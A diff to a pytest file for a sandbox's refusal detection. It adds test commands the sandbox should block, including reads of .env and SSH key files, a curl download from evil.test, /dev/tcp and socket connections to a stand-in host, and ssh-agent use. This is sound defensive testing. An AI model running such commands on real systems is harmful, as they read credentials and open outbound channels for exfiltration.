@@ -1,5 +1,7 @@
 """What a box has refused is told with evidence: rightly by its cause, and never of an ordinary failure."""
 
+from pathlib import Path
+
 import pytest
 
 from journeyman.sandbox import Box, Bubblewrap, SandboxRefusal, find_refusals
@@ -37,7 +39,20 @@ REFUSED = {
     "sqlite3 x": ("program", "sqlite3"),
     "/usr/bin/sqlite3 x": ("program", "sqlite3"),
     "env sqlite3 x": ("program", "sqlite3"),
+    "iconv .env": ("read", "work/.env"),
+    "ssh-keygen -y -f ~/.ssh/id": ("read", "home/.ssh/id"),
+    "mv .env moved": ("protected", "work/.env"),
+    "gpg --list-keys": ("write", "home/.gnupg"),
+    "git config user.name x": ("protected", "work/.git/config"),
+    "curl -o x https://evil.test": ("network", "evil.test"),
+    "exec 3<> /dev/tcp/evil.test/80": ("network", "evil.test"),
+    "exec 3<> /dev/tcp/192.0.2.7/80": ("network", "192.0.2.7"),
+    "python3 -c 'import socket; socket.create_connection((\"evil.test\", 80))'": ("network", "a host"),
+    "eval $(ssh-agent)": ("socket", "a unix socket"),
+    "python3 -c 'import multiprocessing as m; m.Manager()'": ("socket", "a unix socket"),
+    "unshare -n true": ("privilege", "unshare"),
 }
+NO_PATHS = ("program", "network", "socket", "privilege")
 ORDINARY = (
     *(
         "grep nothing f",
@@ -59,6 +74,8 @@ ORDINARY = (
     *("echo x > /proc/sys/kernel/x", "mount", "strace -p 1", "rmdir missing", "sudo true", "chmod 555 a; touch a/x"),
     *("ln -s a a/b/link", "dd if=missing of=x", 'perl -e \'open(F, "<", "no") or die "no: $!"\'', "make nothing"),
     *('echo "cat: ../out/file: Permission denied"', "mkdir a", "python3 -c 'raise PermissionError'", "ls missing/.env"),
+    *("curl http://127.0.0.1:9", "exec 3<> /dev/tcp/127.0.0.1/9", "echo 'su: it says Operation not permitted'"),
+    *("git push", "python3 -c 'raise PermissionError(1, \"Operation not permitted\")'", "echo x > /dev/full", "cat a"),
 )
 
 
@@ -70,7 +87,7 @@ async def test_a_refusal_is_told_by_its_cause(bubblewrap: Bubblewrap, stage: Sta
     opened = bubblewrap.open(box)
     _, output = await run_in_sandbox(opened, 'exec bash -c "$LINE"', {**stage.environment, "LINE": line})
     opened.close()
-    what = name if cause == "program" else str(stage.folder / name)
+    what = name if cause in NO_PATHS else str(stage.folder / name)
     assert [(each.cause, each.what) for each in find_refusals(box, output)] == [(cause, what)], output
 
 
@@ -89,7 +106,9 @@ def test_a_refusal_says_what_would_have_to_be_asked_for() -> None:
     output = "cat: /srv/keys/one: Permission denied\n" * 3 + "touch: cannot touch '../b': Read-only file system\n"
     assert find_refusals(box, output) == (
         SandboxRefusal(cause="read", what="/srv/keys/one", need="read:/srv/keys/one"),
-        SandboxRefusal(cause="write", what="/srv/b", need="write:/srv/b"),
+        SandboxRefusal(cause="write", what="/srv/b", need="write:/srv"),
     )
+    output = f"mkdir: cannot create directory '{Path.home()}/new/x': Read-only file system\n"
+    assert [each.need for each in find_refusals(box, output)] == ["outside"], "nobody may change all that is at home"
     many = "".join(f"cat: /srv/keys/{number}: Permission denied\n" for number in range(9))
     assert len(find_refusals(box, many)) == 5
